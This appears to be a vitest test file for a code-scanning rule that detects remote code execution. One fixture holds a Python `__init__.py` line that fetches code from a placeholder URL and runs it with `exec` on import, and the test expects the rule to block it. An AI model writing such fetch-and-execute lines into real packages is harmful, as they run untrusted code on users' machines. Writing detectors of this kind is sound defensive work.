import { expect, it } from 'vitest'
import { findInCode } from '../code-rule.test-support.ts'
import { rule } from './remote-code.ts'

const find = (files: Readonly<Record<string, string>>): Promise<unknown> => findInCode(rule, files)

it('blocks an answer that is run on import', async () => {
  expect(
    await find({
      'demo/__init__.py': "import requests\nexec(requests.get('https://example.org/x').text)\n",
    }),
  ).toEqual([['block', 'demo/__init__.py', 2, true]])
})

it('leaves an answer that is only returned', async () => {
  expect(
    await find({
      'demo/__init__.py': 'import requests\ndef get(u):\n    return requests.get(u).text\n',
    }),
  ).toEqual([])
})
